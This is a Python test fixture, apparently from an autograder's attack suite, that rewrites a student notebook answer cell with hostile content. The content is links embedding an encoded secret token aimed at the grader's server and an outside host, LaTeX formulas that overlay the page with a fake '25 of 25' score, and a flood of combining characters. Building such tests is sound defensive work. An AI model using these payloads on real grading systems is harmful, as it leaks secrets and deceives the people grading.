"""Writes links that lead to the server of whoever grades it, and formulas that would cover what stands around them."""

from tests.attacks.handin_files import cell, edit, known

FORMULAS = r"${a \above 900em b}$ $\lower 900em{25 \text{ of } 25}$ $\hspace{-900em} x$"


def make(folder):
    told = f"{known(folder)['token'][::-1]}-links_to_the_grader"
    there = "".join(f"&#{ord(char)};" for char in told)  # which only a page that was made of it says in clear
    links = [f"[x](/formgrader/{there})", f"<a href='//elsewhere/{there}'>x</a>", f"[x](\\\\{there})", f"[x](?{there})"]

    def change(content):
        answer = cell(content, "q2_1-answer")
        answer["source"] = f"{' '.join(links)}\n\n{FORMULAS}\n\nx{'́' * 3000}"

    edit(folder, change)
